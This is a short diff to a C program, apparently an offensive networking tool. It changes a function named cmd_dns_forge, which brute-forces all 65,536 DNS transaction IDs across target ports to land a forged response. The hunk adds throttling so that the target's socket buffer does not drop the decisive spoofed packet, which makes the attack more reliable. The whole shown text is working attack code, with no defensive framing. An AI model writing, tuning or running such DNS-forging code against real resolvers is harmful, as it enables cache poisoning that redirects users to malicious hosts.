@@ -478,12 +478,16 @@ static int cmd_dns_forge(char **argv)
 				seen[n_seen++] = port;
 				aimed++;
 			}
-			/* every id: the sentry's is random, a client's may be too */
+			/* every id: the sentry's is random, a client's may be too. In
+			 * bursts the receiver can take: a full socket buffer would drop
+			 * the one that matters */
 			for (uint32_t id = 0; id < 65536; id++) {
 				msg[0] = (uint8_t)(id >> 8);
 				msg[1] = (uint8_t)id;
 				if (sendto(fd, msg, o, MSG_DONTWAIT, (struct sockaddr *)&ends[i], tlen) > 0)
 					sent++;
+				if (id % 256 == 255)
+					usleep(300);
 			}
 		}
 		if (n == 0)
